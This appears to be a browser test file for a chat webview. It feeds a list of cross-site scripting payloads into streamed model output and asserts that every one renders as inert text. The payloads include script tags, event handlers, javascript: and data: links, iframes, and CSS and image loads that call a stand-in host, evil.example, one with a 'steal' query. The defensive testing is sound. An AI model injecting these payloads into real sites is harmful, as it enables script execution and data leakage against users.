// Model output is untrusted: whatever it writes renders as inert text or harmless markup.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { nextFrame, startHarness, type Harness } from "./harness.ts";
import { chunk, emptyConversation, runningTurn } from "./fixtures.ts";

const ATTACKS = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned = 'onerror'\">",
    "<svg onload=\"window.__pwned = 'svg'\"></svg>",
    "[click me](javascript:window.__pwned='link')",
    "[data](data:text/html,<script>parent.__pwned='data'</script>)",
    "<iframe src=\"data:text/html,<script>parent.__pwned='iframe'</script>\"></iframe>",
    "<style>body{background:url(http://evil.example/steal?c=1)}</style>",
    "<div style=\"background:url(http://evil.example/x)\">styled</div>",
    "![tracker](http://evil.example/pixel.png)",
    "<a href=\"http://evil.example\" onclick=\"window.__pwned='click'\">site</a>",
    "<form action=\"http://evil.example\"><button>go</button></form>",
    "<|channel|>analysis<|message|> raw harmony text",
].join("\n\n");

describe("chat webview: malicious output", () => {
    let harness: Harness;
    before(async () => { harness = await startHarness(); });
    after(() => harness.close());

    test("scripts, handlers, javascript:/data: links, frames and CSS loads are inert", async () => {
        const chat = await harness.open();
        const { page } = chat;
        await chat.deliver(emptyConversation());
        await chat.deliver(runningTurn("t1", "<b onmouseover=\"window.__pwned='user'\">hi</b>"));
        await chat.deliver(chunk("t1", "analysis", "<img src=x onerror=\"window.__pwned='analysis'\">"));
        // Streamed in small pieces, so half-written tags pass through the tail renderer too.
        for (let index = 0; index < ATTACKS.length; index += 7) await chat.deliver(chunk("t1", "final", ATTACKS.slice(index, index + 7)));
        await nextFrame(page);
        await chat.deliver({ type: "turnEnded", turnId: "t1", state: "done", reasoningMs: 5 });
        await page.locator("details.thinking summary").click();
        for (const link of await page.locator(".answer a").all()) await link.click({ force: true }).catch(() => undefined);
        await page.locator(".user").hover();
        await nextFrame(page);

        assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned), undefined);
        const log = page.locator("#log");
        assert.equal(await log.locator("script, img, svg, iframe, style, form, object, embed").count(), 0);
        const hrefs = await log.locator("a[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href")));
        assert.ok(hrefs.every((href) => href === "#" || /^https?:/.test(href ?? "")), `hrefs: ${hrefs.join(", ")}`);
        const attributes = await log.locator("*").evaluateAll((elements) => elements.flatMap((element) => [...element.attributes].map((attribute) => attribute.name)));
        assert.ok(!attributes.some((name) => name.startsWith("on") || name === "style"), `attributes: ${[...new Set(attributes)].join(", ")}`);
        // What the model wrote is still readable, as text.
        assert.match(await page.locator(".answer").textContent() ?? "", /<script>window.__pwned = 'script'<\/script>/);
        assert.match(await page.locator(".answer").textContent() ?? "", /<\|channel\|>analysis/);
        assert.deepEqual(harness.foreignRequests, [], "nothing was loaded from outside the view");
        assert.deepEqual(await chat.cspViolations(), []);
        await chat.screenshot("malicious-output");
    });
});
